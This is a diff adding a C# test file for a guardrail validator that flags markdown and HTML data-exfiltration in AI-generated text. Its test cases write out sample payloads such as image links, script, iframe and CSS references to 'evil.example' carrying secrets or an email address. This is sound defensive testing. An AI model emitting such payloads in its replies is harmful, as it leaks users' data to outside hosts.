@@ -1,0 +1,98 @@
+using Hymba.Validation.Exfiltration;
+
+namespace Hymba.Validation.Tests.Exfiltration;
+
+public sealed class ExfiltrationValidatorTests
+{
+    private static readonly ExfiltrationValidator Validator = new();
+
+    [Fact]
+    public void Cases_are_flagged_as_expected()
+    {
+        foreach (GuardrailCase item in GuardrailCase.Read("markdown_exfiltration.garak"))
+        {
+            Assert.True(Contract.Find(Validator, item.Text).Count > 0 == item.Flag, item.Text);
+        }
+    }
+
+    [Theory]
+    [InlineData("![x](//evil.example/p.png?d=secret)", ExfiltrationRules.Image)]
+    [InlineData("![x](<https://evil.example/p.png?d=a secret>)", ExfiltrationRules.Image)]
+    [InlineData("![x](\n https://evil.example/p.png?d=abc \"title\")", ExfiltrationRules.Image)]
+    [InlineData("![ref]\n\n[ref]: https://evil.example/?d=abc\n", ExfiltrationRules.Image)]
+    [InlineData("![a][]\n\n[a]: https://evil.example/?d=abc ", ExfiltrationRules.Image)]
+    [InlineData("[![x](https://evil.example/?d=abc)](https://good.example)", ExfiltrationRules.Image)]
+    [InlineData("![x](https://c2VjcmV0MTIzNDU2.evil.example/x.png)", ExfiltrationRules.Image)]
+    [InlineData("<img src=\"https://evil.example/?q=abc\">", ExfiltrationRules.Html)]
+    [InlineData("<IMG\nsrc=https://evil.example/?q=abc", ExfiltrationRules.Html)]
+    [InlineData("<img srcset='a.png 1x, //evil.example/?q=abc 2x'>", ExfiltrationRules.Html)]
+    [InlineData("<script src=//evil.example/x.js></script>", ExfiltrationRules.Html)]
+    [InlineData("<iframe src='https://evil.example/'></iframe>", ExfiltrationRules.Html)]
+    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>", ExfiltrationRules.Html)]
+    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example/'>", ExfiltrationRules.Html)]
+    [InlineData("<div style=\"background: url(https://evil.example/?q=abc)\">", ExfiltrationRules.Css)]
+    [InlineData("<style>@import 'https://evil.example/x.css';</style>", ExfiltrationRules.Css)]
+    [InlineData("[see](https://evil.example/?q=jane@example.com)", ExfiltrationRules.Link)]
+    public void Every_way_out_is_found(string text, string rule)
+    {
+        Assert.Contains(Contract.Find(Validator, "See: " + text), finding => finding.Rule == rule);
+        Contract.CheckStreaming(Validator, "See: " + text + " and <b>more</b> [1] text.");
+        Assert.Empty(Contract.Find(new ExfiltrationValidator(new() { AllowedHosts = ["evil.example"] }), text));
+    }
+
+    [Theory]
+    [InlineData("![logo](https://good.example/logo.png)")]
+    [InlineData("![logo](https://good.example/logo.png?w=800&q=80&fm=webp)")]
+    [InlineData("![chart](chart.png?x=secret)")]
+    [InlineData("![dot](data:image/png;base64,iVBORw0KGgo=)")]
+    [InlineData("[search](https://www.example.com/search?q=water+cycle&hl=en)")]
+    [InlineData("<img src='logo.png' alt='it''s'>")]
+    [InlineData("List<int> a; if (a < b && c > d) curl(https://x.example/?a=b)")]
+    public void Harmless_references_pass(string text)
+    {
+        Assert.Empty(Contract.Find(Validator, text));
+        Contract.CheckStreaming(Validator, text);
+    }
+
+    [Fact]
+    public void Streaming_settles_what_the_whole_text_says()
+    {
+        foreach (GuardrailCase item in GuardrailCase.Read("markdown_exfiltration.garak"))
+        {
+            Contract.CheckStreaming(Validator, item.Text + "\n\nThat is all.");
+        }
+    }
+
+    [Fact]
+    public void Core_positives_stay_found_in_their_surroundings()
+    {
+        foreach (GuardrailCase item in GuardrailCase.Read("markdown_exfiltration.garak").Where(item => item.Flag && item.Tier == "core"))
+        {
+            foreach ((string text, int _) in Contract.Surround(item.Text))
+            {
+                Assert.NotEmpty(Contract.Find(Validator, text));
+            }
+        }
+    }
+
+    [Fact]
+    public void Prose_passes_and_is_hardly_held_back()
+    {
+        foreach (string text in Prose.Replies)
+        {
+            Assert.Empty(Contract.Find(Validator, text));
+            Assert.InRange(Contract.Held(Validator, text), 0, 4);
+            Contract.CheckStreaming(Validator, text);
+        }
+    }
+
+    [Theory]
+    [InlineData("![")]
+    [InlineData("[](")]
+    [InlineData("[a][")]
+    [InlineData("<a ")]
+    [InlineData("<img src=\"")]
+    [InlineData("url(")]
+    public void Hostile_repetition_stays_linear(string unit) =>
+        Contract.Find(Validator, string.Concat(Enumerable.Repeat(unit, 200_000 / unit.Length)));
+}
